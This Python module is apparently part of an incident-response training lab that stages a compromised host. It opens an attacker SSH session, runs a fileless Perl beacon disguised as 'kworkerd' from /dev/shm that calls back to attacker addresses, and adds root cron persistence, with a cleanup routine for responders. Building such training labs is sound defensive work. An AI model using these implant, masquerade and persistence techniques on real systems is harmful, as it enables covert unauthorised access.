"""The staged attack `compromised-host`: a stolen account, a live session, a beacon without a file, changed files."""

from __future__ import annotations

import secrets
import shlex
import subprocess
import time
from types import TracebackType
from typing import Self

from irflow.core.errors import DeadlineExceeded
from irflow.lab import command, loopback
from irflow.lab.lab import Lab
from irflow.lab.listener import Listener
from irflow.lab.model import LabError, LabHost, Level
from irflow.lab.session import Session
from irflow.lab.vantage import ssh_argv

_START_S = 10.0
_MEMORY = "/dev/shm"

# Calls home every 0.2 s, by turns over v4 and v6; a try ends after 1 s, so that it goes on after a cut.
_BEACON = """\
use Socket qw(:DEFAULT inet_pton pack_sockaddr_in6);
my ($port, $word, @to) = @ARGV;
$SIG{ALRM} = sub { die };
for (my $n = 0; ; $n++) {
  my $to = $to[$n % @to];
  my $six = $to =~ /:/;
  eval {
    alarm 1;
    socket(my $s, $six ? AF_INET6 : AF_INET, SOCK_STREAM, 0) or die;
    my $a = inet_pton($six ? AF_INET6 : AF_INET, $to);
    connect($s, $six ? pack_sockaddr_in6($port, $a) : pack_sockaddr_in($port, $a)) or die;
    syswrite($s, "$word\\n");
    close($s);
  };
  alarm 0;
  select(undef, undef, undef, 0.2);
}
"""

# Copies a real interpreter into memory, starts it, and removes the file as soon as it runs.
_START = """\
f={folder}/kworkerd; mkdir -p {folder} && cp "$(command -v perl)" $f && \
{{ setsid $f -e {beacon} {arguments} </dev/null >/dev/null 2>&1 & }} && \
while [ "$(readlink /proc/$!/exe)" != "$f" ] && kill -0 $!; do :; done; rm -r {folder}; echo $!"""

_TAMPER = """\
umask 022
printf '#!/bin/sh\\n# left by the intruder: starts the implant again\\nexec %s\\n' "$3" >"$2"
chmod 755 "$2"
printf '* * * * *\\troot\\t%s\\n' "$2" >>"$1"
"""


class StagedAttack:
    """An attack under way on one host. Made by `stage`; `stop` ends the attacker's side of it."""

    def __init__(self, lab: Lab, host: LabHost) -> None:
        """Break in. Raises LabError when the session or the beacon does not come up."""
        self.lab, self.host = lab, host
        self._token = secrets.token_hex(16)
        self.implant = f"{_MEMORY}/.{self._token[:8]}/kworkerd"
        self._loopback = lab.level is Level.LOOPBACK
        root = str(loopback.folder(lab.layout, host.name)) if self._loopback else ""
        self._crontab, self._added = f"{root}/etc/crontab", f"{root}/usr/local/bin/syshealth"
        self._original: bytes | None = None
        self.beacon_pid = 0
        self._listener = Listener(lab.netns("attacker"), lab.attacker_addresses, self._token)
        self._session: Session | None = None
        try:
            self._session = Session(lab, host, timeout_s=_START_S)
            self._start_beacon(self._session)
            self._tamper()
        except BaseException:  # also Ctrl-C: the attacker's processes must not stay
            self.stop()
            raise

    @property
    def tampered_paths(self) -> tuple[str, ...]:
        """Files on the host that the attacker changed or added."""
        return (self._crontab, self._added)

    def session_alive(self, timeout_s: float = 2.0) -> bool:
        """Whether what the attacker types into the open session is answered within timeout_s seconds."""
        return self._session is not None and self._session.echoes(timeout_s)

    def last_beacon_at(self) -> float | None:
        """When the last beacon arrived (time.monotonic, seconds), or None."""
        return self._listener.last()

    def beacon_seen_since(self, moment: float, timeout_s: float = 0.0) -> bool:
        """Whether a beacon arrived after `moment` (time.monotonic); waits up to timeout_s seconds for one."""
        return self._listener.wait_since(moment, timeout_s)

    def can_connect(self, timeout_s: float = 3.0) -> bool:
        """Whether the attacker can log in anew within timeout_s seconds."""
        ssh = ssh_argv(self.lab, self.host, "attacker", connect_s=max(1, int(timeout_s)))
        try:
            return self.lab.run_from("attacker", [*ssh, "true"], timeout_s=timeout_s).returncode == 0
        except DeadlineExceeded:
            return False

    def clean(self) -> None:
        """Take everything of the attacker off the host: processes, files, the stolen key. The operator's fix.

        Twice is fine. Raises LabError.
        """
        if self._loopback:
            self._on_host("kill -KILL $1 2>/dev/null || :", str(self.beacon_pid))
            keys = loopback.folder(self.lab.layout, self.host.name) / "authorized_keys"
            keys.write_text((self.lab.layout.keys / "responder.pub").read_text())
        else:
            # A process may start another while it is being ended: again until none is left.
            self._on_host('while p=$(ps -u "$1" -o pid=); do kill -KILL $p 2>/dev/null || :; done', "mallory")
            self._on_host("rm -f /home/mallory/.ssh/authorized_keys")
        self._on_host('rm -f "$1"', self._added)
        if self._original is not None:
            self._on_host('cat >"$1"', self._crontab, stdin=self._original)

    def stop(self) -> None:
        """End the attacker's side: the session's client and the listener. Twice is fine."""
        if self._session is not None:
            self._session.close()
        self._listener.close()
        if self._loopback and self.beacon_pid:
            self._on_host("kill -KILL $1 2>/dev/null || :", str(self.beacon_pid))

    def __enter__(self) -> Self:
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        self.stop()

    def _start_beacon(self, session: Session) -> None:
        before = time.monotonic()
        arguments = [str(self._listener.port), self._token, *self.lab.attacker_addresses]
        script = " ".join(_BEACON.split())
        line = _START.format(
            folder=self.implant.rpartition("/")[0], beacon=shlex.quote(script), arguments=shlex.join(arguments)
        )
        answer = session.ask(line, _START_S)
        lines = (answer or "").split()
        if not lines or not lines[-1].isdigit():
            raise LabError(f"the beacon did not start: {answer!r}", where=self.host.name)
        self.beacon_pid = int(lines[-1])
        if not self.beacon_seen_since(before, _START_S):
            raise LabError("no beacon reached the attacker", where=self.host.name)

    def _tamper(self) -> None:
        """Change files as root would: the privilege that the intruder gained before the alert came."""
        if self._loopback:
            self._on_host('mkdir -p "${1%/*}" "${2%/*}"; : >"$1"', self._crontab, self._added)
        self._original = self._on_host('cat "$1"', self._crontab)
        self._on_host(_TAMPER, self._crontab, self._added, self.implant)

    def _on_host(self, script: str, *arguments: str, stdin: bytes | None = None) -> bytes:
        argv = ["sh", "-euc", script, "sh", *arguments]
        done: subprocess.CompletedProcess[bytes]
        if self._loopback:
            environment = command.HOST_ENVIRONMENT
            done = command.run(argv, stdin=stdin, timeout_s=20.0, where=self.host.name, environment=environment)
        else:
            done = self.lab.exec(self.host, argv, stdin=stdin, timeout_s=20.0)
        if done.returncode:
            reason = done.stderr.decode(errors="replace").strip()
            raise LabError(f"staging the attack failed: {reason}", where=self.host.name)
        return done.stdout


def stage(lab: Lab, host: LabHost) -> StagedAttack:
    """Break into a host as mallory: session open, beacon calling, files changed. Raises LabError."""
    return StagedAttack(lab, host)
